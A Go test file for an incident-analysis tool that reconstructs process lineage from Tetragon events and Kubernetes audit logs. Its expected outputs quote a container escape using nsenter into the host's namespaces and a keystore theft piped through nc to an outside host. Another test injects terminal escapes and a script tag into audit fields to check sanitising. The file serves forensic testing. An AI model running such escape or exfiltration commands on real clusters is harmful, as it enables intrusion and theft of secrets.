package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stoop-project/stoop/internal/testdata"
)

// nsenterEvent is the number of the event in Tetragon's recording by which
// somebody left a privileged pod.
const (
	tetragonFile   = "siem/tetragon-raw/events.ndjson"
	nsenterEvent   = "6"
	keystoreStolen = "37"
)

// storyOf tells the story of an event, of files.
func storyOf(t *testing.T, event string, files ...string) string {
	t.Helper()
	code, out, errs := stoop(t, append([]string{"print", "-r", "none", "--story", event}, files...)...)
	if code != exitOK {
		t.Fatal(errs)
	}
	return out
}

func mustSay(t *testing.T, out string, wants ...string) {
	t.Helper()
	for _, want := range wants {
		if !strings.Contains(out, want) {
			t.Errorf("%q is missing in\n%s", want, out)
		}
	}
}

func mustNotSay(t *testing.T, out string, words ...string) {
	t.Helper()
	for _, word := range words {
		if strings.Contains(out, word) {
			t.Errorf("%q is said in\n%s", word, out)
		}
	}
}

// Tetragon's recording of two attacks gives lineage and story, though it says
// neither results nor, of parents, more than pid and start.
func TestStoryOfTetragon(t *testing.T) {
	file := testdata.Path(t, tetragonFile)
	out := storyOf(t, nsenterEvent, file)
	mustSay(t, out,
		"  runc  17012\n    bash  17022\n▲     nsenter -t 1 -m -u -n -i -p bash  19009\n        bash  19010\n          cat  24767\n",
		"runc brought bash into the container",
		"bash ran nsenter -t 1 -m -u -n -i -p bash, which changes what its processes see of the machine",
		"Privilege Escalation", "Who asked the runtime to start bash is not in these events",
	)
	out = storyOf(t, keystoreStolen, file)
	mustSay(t, out,
		"  bash  24200\n    sh lifecycle.sh  38312\n      cat /usr/share/elasticsearch/config/elasticsearch.keystore  38313\n▲     nc raiz3gjkgtfhkkc.not-reverse-shell.com 443  38314\n",
		"△    T−0.009 s  cat read usr/share/elasticsearch/config/elasticsearch.keystore",
		"≈ nc connected to 64.225.45.153 port 443, after cat had usr/share/elasticsearch/config/elasticsearch.keystore for reading",
		"it connected 1 time", "Exfiltration", "Who started bash was not seen",
	)
}

// A process that the container's own did not start is joined to the request
// that let somebody in: raw audit records and Elastic's, the stages of one
// request as one, those for other commands and pods left out.
func TestStoryWho(t *testing.T) {
	file := testdata.Path(t, tetragonFile)
	const who = "user jane@corp.example (dev, system:authenticated) from 198.51.100.7 with \"kubectl/v1.30.1 (linux/amd64) kubernetes/6911225\""
	raw := filepath.Join("testdata", "exec-audit.json")
	for name, audit := range map[string]string{"raw": raw, "Elastic's": elasticAudit(t, raw)} {
		out := storyOf(t, nsenterEvent, file, audit)
		mustSay(t, out,
			"  by          "+who+"\n", "Lineage\n  "+who+"\n  runc  17012\n",
			who+" ran bash in the container, by the API server's pods/exec", "Execution",
		)
		mustNotSay(t, out, "user bob", "user eve", "≈ user", "is not in these events")
		if t.Failed() {
			t.Fatal(name)
		}
	}
}

// Several requests that fit are all said, and marked as a conclusion; one that
// was refused is none.
func TestStoryWhoOfSeveral(t *testing.T) {
	file := testdata.Path(t, tetragonFile)
	text, err := os.ReadFile(filepath.Join("testdata", "exec-audit.json"))
	if err != nil {
		t.Fatal(err)
	}
	two := strings.ReplaceAll(string(text), "command=ls&", "command=bash&")
	out := storyOf(t, nsenterEvent, file, jsonFile(t, two))
	mustSay(t, out, "≈ user jane@corp.example", "; or user bob (dev) from 198.51.100.8 with kubectl/v1.30.1 ran bash", "2 requests to the API server fit")
	refused := strings.ReplaceAll(string(text), `"code":101`, `"code":403`)
	out = storyOf(t, nsenterEvent, file, jsonFile(t, refused))
	mustSay(t, out, "runc brought bash", "of ways into a pod none fits")
	mustNotSay(t, out, "jane")
}

// Whoever names himself like a sentence, a table or a terminal's command makes
// none.
func TestStoryWhoHostile(t *testing.T) {
	file := testdata.Path(t, tetragonFile)
	text, err := os.ReadFile(filepath.Join("testdata", "exec-audit.json"))
	if err != nil {
		t.Fatal(err)
	}
	evil := strings.ReplaceAll(string(text), "jane@corp.example", `x\n▲    T+0.000 s  admin | did it\u001b[2J`)
	evil = strings.ReplaceAll(evil, "kubectl/v1.30.1 (linux/amd64) kubernetes/6911225", "`a`](http://x)|\\r\\n# head <script>")
	for _, form := range [][]string{nil, {"--markdown"}} {
		out := storyOf(t, nsenterEvent, append([]string{file, jsonFile(t, evil)}, form...)...)
		mustNotSay(t, out, "\x1b", "\n▲    T+0.000 s  admin", "\n# head")
		if form != nil {
			_, story, _ := strings.Cut(out, "## Story")
			mustNotSay(t, story, "<script>", "](http:")
		}
	}
}

// The alerts of the demo's incident are one incident, the first like the last.
func TestStoryOneIncident(t *testing.T) {
	_, out, _ := stoop(t, "print", "demo", "-r", "stoop", "-f", "alert.rule exists and container.name = web", "--columns", "alert.id", "-o", "csv")
	names := map[string]int{}
	ids := strings.Fields(out)[1:]
	if len(ids) < 13 {
		t.Fatalf("%d alerts", len(ids))
	}
	for _, id := range []string{ids[0], ids[len(ids)/2], ids[len(ids)-1]} {
		_, story, _ := stoop(t, "print", "demo", "-r", "stoop", "--story", id)
		_, name, _ := strings.Cut(story, "  incident    ")
		name, _, _ = strings.Cut(name, "\n")
		names[name]++
	}
	if len(names) != 1 || names[""] > 0 {
		t.Errorf("%v", names)
	}
}

func jsonFile(t *testing.T, text string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "x.json")
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// elasticAudit puts audit records where Elastic's kubernetes.audit_logs has
// them.
func elasticAudit(t *testing.T, path string) string {
	t.Helper()
	text, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	for line := range strings.Lines(string(text)) {
		var record map[string]any
		if err := json.Unmarshal([]byte(line), &record); err != nil {
			t.Fatal(err)
		}
		doc, err := json.Marshal(map[string]any{
			"@timestamp": record["stageTimestamp"], "data_stream": map[string]string{"dataset": "kubernetes.audit_logs"},
			"kubernetes": map[string]any{"audit": record},
		})
		if err != nil {
			t.Fatal(err)
		}
		out.Write(append(doc, '\n'))
	}
	return jsonFile(t, out.String())
}
